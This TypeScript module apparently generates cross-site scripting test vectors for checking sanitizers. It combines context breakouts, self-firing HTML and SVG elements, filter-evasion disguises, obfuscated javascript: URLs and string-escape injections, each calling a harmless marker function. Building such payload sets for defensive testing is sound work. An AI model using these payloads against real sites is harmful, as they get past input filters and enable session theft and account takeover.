/**
 * Script-injection vectors, made by a small grammar: breakouts of the place where a value stands, elements that run script, schemes,
 * and the disguises that filters fall for. The classes are those of OWASP's filter evasion cheat sheet and of html5sec.org; the texts
 * are ours. Each runs `CALL` when it works.
 */
export interface Vector {
  class: string;
  text: string;
}

/** What a vector runs. It works wherever script does, without quotes, brackets that matter or a space. */
const CALL = "top.hit()";

// What ends the places in which a value can stand: nothing, quoted and unquoted attributes, raw text elements, comments, script.
const BREAKOUTS: Record<string, string> = {
  "in text": "",
  "out of a double-quoted attribute": '">',
  "out of a single-quoted attribute": "'>",
  "out of an unquoted attribute": " x>",
  "out of a title": "</title>",
  "out of a style sheet": "</style>",
  "out of a script": "</script>",
  "out of a comment": "-->",
  "out of a textarea": "</textarea>",
  "out of a table": "</td></table>",
};

// Elements that run script without anybody's help.
const ELEMENTS: Record<string, string> = {
  "script element": `<script>${CALL}</script>`,
  "script element of SVG": `<svg><script>${CALL}</script></svg>`,
  "image that fails": `<img src=x: onerror=${CALL}>`,
  "SVG that loads": `<svg onload=${CALL}>`,
  "frame that loads": `<iframe onload=${CALL}></iframe>`,
  "frame of a document": `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  "frame of a script URL": `<iframe src="javascript:${CALL}"></iframe>`,
  "object of a script URL": `<object data="javascript:${CALL}"></object>`,
  "embedded script URL": `<embed src="javascript:${CALL}">`,
  "details that open": `<details open ontoggle=${CALL}>x</details>`,
  "focus by itself": `<input autofocus onfocus=${CALL}>`,
  "video that fails": `<video><source onerror=${CALL}></video>`,
  "audio that fails": `<audio src=x: onerror=${CALL}></audio>`,
  "animation of SVG": `<svg><animate onbegin=${CALL} attributeName=x dur=1s></svg>`,
  "animation of a style": `<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationstart=${CALL}>x</b>`,
  "style sheet that loads": `<style onload=${CALL}></style>`,
  "stylesheet link that fails": `<link rel=stylesheet href=x: onerror=${CALL}>`,
  "script that fails to load": `<script src=x: onerror=${CALL}></script>`,
  "script of data": `<script src="data:text/javascript,${CALL}"></script>`,
  "module of data": `<script type=module src="data:text/javascript,${CALL}"></script>`,
  "picture in MathML's text": `<math><mtext><img src=x: onerror=${CALL}></mtext></math>`,
  "foreign object": `<svg><foreignObject><img src=x: onerror=${CALL}></foreignObject></svg>`,
  "noscript's end": `<noscript><p title="</noscript><img src=x: onerror=${CALL}>">`,
  "template's end": `<template><b></template><img src=x: onerror=${CALL}>`,
};

// How a text is disguised from a filter, and still works.
const DISGUISES: Record<string, (text: string) => string> = {
  "as it is": (text) => text,
  "mixed case": (text) => text.replace(/<(\/?)(\w+)/g, (_, slash, name) => `<${slash}${mixed(name)}`),
  "slash for a space": (text) => text.replace(/<(\w+) /g, "<$1/"),
  "tab and new line for a space": (text) => text.replace(/<(\w+) /g, "<$1\t\n"),
  "form feed for a space": (text) => text.replace(/<(\w+) /g, "<$1\f"),
  "tag not closed": (text) => text.replace(/>$/, " "),
  "nested, for a filter that removes": (text) => text.replace(/<script/g, "<scr<script>ipt><script"),
  "open bracket twice": (text) => `<${text}`,
  "a filter's own comment": (text) => `<!--><x>-->${text}`,
  "long padding": (text) => `${" ".repeat(60)}${text}`,
  "unclosed quotes first": (text) => `<img """>${text}`,
  "null character": (text) => text.replace(/<(\w+) /g, "<$1 \0 "),
};

// Handlers that an attribute's value can add to the element it is in.
const ATTRIBUTES = ["onfocus", "onfocusin"].flatMap((handler) =>
  ['"', "'", " "].flatMap((quote) => [
    `x${quote} ${handler}=${CALL} autofocus tabindex=1 x=${quote}`,
    `x${quote}/${handler.toUpperCase()}=${CALL}/autofocus/tabindex=1/x=${quote}`,
    `x${quote}\n${handler}\n=\n${CALL}\nautofocus\ntabindex=1\nx=${quote}`,
    `x${quote} ${handler}=&#116;op.hit&lpar;) autofocus tabindex=1 x=${quote}`,
  ]),
);

// URLs that are script, where a value is a link's whole address.
const URLS = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `\x01javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `java\rscript:${CALL}`,
  `javascript&colon;${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6A;avascript:${CALL}`,
  `&#0000106avascript:${CALL}`,
  `javascript://x%0a${CALL}`,
  `javascript:/*x*/${CALL}`,
  `javascript:void(${CALL})`,
];

// What ends a string or the whole script, where a value stands in one.
const SCRIPTS = [
  `";${CALL}//`,
  `';${CALL}//`,
  `\\";${CALL}//`,
  `"-${CALL}-"`,
  `'-${CALL}-'`,
  `\`;${CALL}//`,
  `\${${CALL}}`,
  `\u2028${CALL}//`,
  `<!--<script>";${CALL}//`,
  `"}]});${CALL}//`,
  `</script ><script>${CALL}</script>`,
  `</SCRIPT/x><script>${CALL}</script>`,
];

function mixed(name: string): string {
  return [...name].map((letter, index) => (index % 2 === 0 ? letter.toUpperCase() : letter)).join("");
}

/** All vectors, no text twice. */
export function xssVectors(): Vector[] {
  const vectors: Vector[] = [];
  for (const [element, text] of Object.entries(ELEMENTS)) {
    for (const [place, end] of Object.entries(BREAKOUTS))
      vectors.push({ class: `${element}, ${place}`, text: end + text });
    for (const [name, disguise] of Object.entries(DISGUISES)) {
      vectors.push({ class: `${element}, ${name}`, text: disguise(text) });
    }
  }
  for (const text of ATTRIBUTES) vectors.push({ class: "handler added to the element", text });
  for (const text of URLS) vectors.push({ class: "script URL", text });
  for (const text of SCRIPTS) vectors.push({ class: "out of a string of script", text });
  const seen = new Set<string>();
  return vectors.filter(({ text }) => !seen.has(text) && seen.add(text));
}
